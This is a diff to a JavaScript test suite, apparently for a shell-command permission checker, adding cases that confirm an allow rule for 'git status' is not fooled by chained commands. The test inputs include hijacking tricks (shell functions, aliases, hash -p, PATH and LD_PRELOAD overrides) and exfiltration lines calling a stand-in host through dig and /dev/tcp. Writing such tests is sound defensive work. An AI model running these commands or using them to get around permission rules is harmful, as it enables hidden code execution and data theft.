@@ -73,6 +73,11 @@ describe('an allow does not cover', () => {
     'for PATH in /tmp/evil; do git status; done',
     'export NODE_OPTIONS=--require=/tmp/x; git status',
     'LD_PRELOAD=/tmp/x.so; git status',
+    'git(){ ./x; }; git status',
+    'function git { ./x; }; git status',
+    "alias git='./x'; git status",
+    'hash -p ./x git; git status',
+    'declare -x PATH=/tmp/evil; git status',
     'git status; dig secret.evil.example',
     'git status > /dev/tcp/evil.example/80',
   ])('what is made of it: %s', async (command) => {
